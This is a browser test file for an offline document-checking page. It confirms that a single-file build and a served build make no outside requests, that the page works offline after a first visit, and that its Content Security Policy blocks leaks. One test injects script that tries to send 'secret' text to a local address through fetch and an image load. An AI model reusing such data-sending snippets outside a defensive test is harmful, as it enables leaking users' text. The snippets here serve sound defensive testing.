// The page without a network: as one file from a folder, and offline after the first visit.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { readFile } from "node:fs/promises";
import { fileURLToPath } from "node:url";
import { launch } from "../../pkg/test/support/chromium.js";
import { serve } from "../../pkg/test/support/serve.js";
import { Visit } from "./support/browser.js";
import { count, poll, WRONG_SUM } from "./support/visits.js";

const DIST = new URL("../dist/", import.meta.url);
const SINGLE = new URL("gouji.html", DIST).href;

async function openWord(page) {
  const buffer = await readFile(new URL("../../tests/fixtures/word.docx", import.meta.url));
  await page.locator("#file").setInputFiles({ name: "报告.docx", mimeType: "", buffer });
  await poll(() => page.locator(".cm-content").innerText(), (text) => text.includes("收到申请86件"), "the Word document");
}

let browser;
before(async () => {
  browser = await launch();
});
after(() => browser?.close());

test("one file, opened from a folder, checks without asking anybody", async () => {
  const visit = await Visit.to(browser, SINGLE, { offline: true });
  assert.ok((await visit.flags.count()) > 0, "the sample is checked");
  await visit.paste(WRONG_SUM);
  await count(visit.flags, 1);
  await visit.retype("1件", "2");
  await count(visit.flags, 0);
  await openWord(visit.page);
  await visit.page.locator("#proof > summary").click();
  assert.match(await visit.page.locator("#proof-body").innerText(), /不允许任何网络连接[^]*connect-src 'none'/);
  assert.match(await visit.page.locator("#proof-count").innerText(), / 0 个，其中来自别处的 0 个/);
  await visit.shot("single");
  assert.deepEqual(visit.errors, []);
  assert.deepEqual(visit.requests.filter((url) => !/^(data|blob):/.test(url)).map((url) => fileURLToPath(url)), [fileURLToPath(SINGLE)]);
  await visit.close();
});

for (const [name, pageOf] of [["the one file", async () => ({ origin: SINGLE, stop() {} })], ["the served page", () => serve(DIST)]]) {
  test(`the policy keeps a script in ${name} from sending the text away`, async () => {
    const server = await pageOf();
    const visit = await Visit.to(browser, server.origin);
    const refused = await visit.page.evaluate(async () => {
      const told = [];
      document.addEventListener("securitypolicyviolation", (event) => told.push(event.effectiveDirective));
      const failed = await fetch("http://127.0.0.1:9/?text=secret").then(() => false, () => true);
      const image = await new Promise((done) => Object.assign(new Image(), { onload: () => done(false), onerror: () => done(true), src: "http://127.0.0.1:9/secret.png" }));
      return { failed, image, told };
    });
    assert.deepEqual(refused, { failed: true, image: true, told: ["connect-src", "img-src"] });
    await visit.close();
    server.stop();
  });
}

test("after the first visit the page opens offline and checks", async () => {
  const server = await serve(DIST);
  const visit = await Visit.to(browser, server.origin, { serviceWorkers: "allow" });
  await visit.page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
  server.stop();
  await visit.page.context().setOffline(true);
  await visit.page.reload();
  await visit.page.locator("#summary .counts").waitFor();
  await visit.paste(WRONG_SUM);
  await count(visit.flags, 1);
  await openWord(visit.page);
  assert.equal(await visit.page.evaluate(() => fetch("./manifest.webmanifest").then((answer) => answer.json()).then((manifest) => manifest.display)), "standalone");
  await poll(() => visit.errors, (errors) => errors.length === 0, "no error");
  await visit.close();
});
